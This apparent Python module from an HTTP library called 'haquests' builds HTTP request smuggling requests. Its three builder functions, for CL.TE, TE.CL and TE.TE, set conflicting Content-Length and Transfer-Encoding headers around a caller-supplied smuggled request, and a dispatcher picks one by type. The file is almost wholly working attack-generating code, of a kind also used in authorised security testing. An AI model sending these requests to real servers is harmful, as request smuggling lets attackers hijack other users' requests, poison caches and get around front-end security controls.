"""Requests that carry both Content-Length and Transfer-Encoding framing."""

import enum

from haquests import chunked
from haquests.request import Request


class SmugglingType(enum.Enum):
    CL_TE = "CL.TE"
    TE_CL = "TE.CL"
    TE_TE = "TE.TE"


def create_clte(url, smuggled_request):
    """A POST whose plain body is framed by both Content-Length and chunked."""
    request = Request("POST", url)
    request.set_header(
        "Content-Length", str(len(smuggled_request.encode("utf-8", "surrogateescape")))
    )
    request.set_header("Transfer-Encoding", "chunked")
    request.set_body(smuggled_request)
    return request


def create_tecl(url, smuggled_request):
    """A POST with Transfer-Encoding chunked and a chunk-encoded body."""
    request = Request("POST", url)
    request.set_header("Transfer-Encoding", "chunked")
    request.set_header("Content-Length", "0")
    request.set_body(chunked.encode(smuggled_request))
    return request


def create_tete(url, smuggled_request):
    """A POST whose Transfer-Encoding header is set twice and a chunked body."""
    request = Request("POST", url)
    request.set_header("Transfer-Encoding", "chunked")
    request.add_header("Transfer-Encoding", "identity")
    request.set_body(chunked.encode(smuggled_request))
    return request


_BUILDERS = {
    SmugglingType.CL_TE: create_clte,
    SmugglingType.TE_CL: create_tecl,
    SmugglingType.TE_TE: create_tete,
}


def build_malformed(url, content, kind):
    """Build the request for ``kind``; any other kind gives a plain POST."""
    builder = _BUILDERS.get(kind)
    if builder is None:
        return Request.post(url, content)
    return builder(url, content)